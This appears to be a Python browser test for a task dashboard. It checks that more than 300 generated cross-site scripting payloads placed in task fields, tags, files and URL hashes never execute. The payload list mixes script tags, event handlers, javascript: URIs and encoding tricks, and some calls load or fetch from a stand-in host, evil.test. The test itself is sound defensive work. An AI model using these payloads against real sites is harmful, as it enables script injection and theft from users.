"""What strangers put into tasks is shown on the dashboard and never becomes a part of it."""

import itertools
from pathlib import Path
from typing import Any

from offload import Client
from tests.browser.chromium import dashboard
from tests.servers import Server

JOBS = Path(__file__).with_name("jobs_for_pages.py")
MARK = "globalThis.broken=1"
CALLS = ("alert(1)", MARK, "import('//evil.test/x.js')", "fetch('//evil.test/')", "location='//evil.test/'")
SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>", "javascript:{}",
    "JaVaScRiPt&colon;{}", ' \tjavascript:{}', "data:text/html,<script>{}</script>", "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "<body onload={}>",
    "<math><mtext></table><img src=x onerror={}>", "'-{}-'", '"-{}-"', "`${{{}}}`", "${{{}}}", "{{{{{}}}}}",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</pre><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    '"onmouseover={}//', "'onmouseover={}//", "<style>@import '//evil.test/{}';</style>",
    "<link rel=stylesheet href=//evil.test/{}>", "<base href=//evil.test/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><input type=submit>", "<isindex action=javascript:{}>",
    "<xss style='x:expression({})'>", '\u2028{}\u2029', '\x1b]8;;javascript:{}\x07x', '<scr\x00ipt>{}</scr\x00ipt>',
    "<img src=x:x onerror=&#97;lert(1)//{}>", "%3Cscript%3E{}%3C/script%3E", '\\x3cscript\\x3e{}\\x3c/script\\x3e',
    '\\u003cscript\\u003e{}', "<!--<img src='--><img src=x onerror={}//'>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg><a xlink:href=javascript:{}>x</a></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>", "<marquee onstart={}>", "<audio src=x onerror={}>",
    "<select autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<frameset onload={}>",
    "<table background=javascript:{}>", "<applet code=javascript:{}>", '{{"__html":"<img src=x onerror={}>"}}',
    "constructor.constructor('{}')()",
)  # fmt: skip
PAYLOADS = [shape.format(call) for shape, call in itertools.product(SHAPES, CALLS)]
LOOKS = """() => ({
    broken: globalThis.broken,
    scripts: [...document.scripts].map((script) => script.src).filter((src) => !src.endsWith("/dashboard/app.js")),
    frames: document.querySelectorAll("iframe, object, embed, base, form[action], [onerror], [onload]").length,
    links: [...document.links].map((link) => link.href).filter((href) => !/^https?:\\/\\/127\\.0\\.0\\.1/.test(href)),
})"""
CLEAN: dict[str, object] = {"broken": None, "scripts": [], "frames": 0, "links": []}


def text_of(payload: str) -> str:
    """Return it without what a name may not have."""
    return "".join(c for c in payload if c.isprintable())[:100]


def submit_all(client: Client) -> list[str]:
    """Put every payload into every field that takes it; return the tasks' ids."""
    found = []
    for some in batches(PAYLOADS, 40):
        tags = {f"tag{n}": text_of(payload) for n, payload in enumerate(some[:10])}
        value = {"values": list(some), **dict.fromkeys(some, "as a name")}
        found.append(client.submit("echo", {"value": value}, options={"tags": tags}))
        found.append(client.submit("fail", why="\n".join(some)))
        found.append(client.submit("refuse", why=some[0]))
        rows = [{payload: payload for payload in some[:8]}] * 2
        found.append(client.submit("echo", value=rows))
    for payload in PAYLOADS[::30]:
        name = text_of(payload).replace("/", "_") or "x"
        found.append(client.submit("save", {"text": f"a,b\n{payload},{payload}", "name": name, "type": "text/csv"}))
        found.append(client.submit("save", {"text": payload, "name": name, "type": "text/html"}))
    for task in found:
        task.wait()
    return [task.id for task in found]


def batches(of: list[str], size: int) -> list[list[str]]:
    return [of[start : start + size] for start in range(0, len(of), size)]


def test_three_hundred_payloads_in_every_field_run_nothing(tmp_path: Path) -> None:
    assert len(set(PAYLOADS)) >= 300
    with Server(JOBS, tmp_path / "data") as server, Client(server.url) as client:
        ids = submit_all(client)
        with dashboard(server, "#/tasks", quiet=("status of 40",)) as page:
            page.locator("tbody tr").first.wait_for()
            check(page)
            for task_id in ids:
                page.goto(f"{server.url}/#/tasks/{task_id}")
                page.get_by_role("heading", name=f"Task {task_id[:8]}").wait_for()
                page.get_by_role("heading", name="Timeline").wait_for()
                check(page)
            for payload in PAYLOADS[::10]:
                page.evaluate("(place) => { location.hash = place; }", f"#/tasks?tag={payload}&job={payload}")
                page.evaluate("(place) => { location.hash = place; }", f"#/run/{payload}")
                page.evaluate("(place) => { location.hash = place; }", f"#/tasks/{payload}?like={payload}")
                check(page)


def check(page: Any) -> None:
    assert page.evaluate(LOOKS) == CLEAN
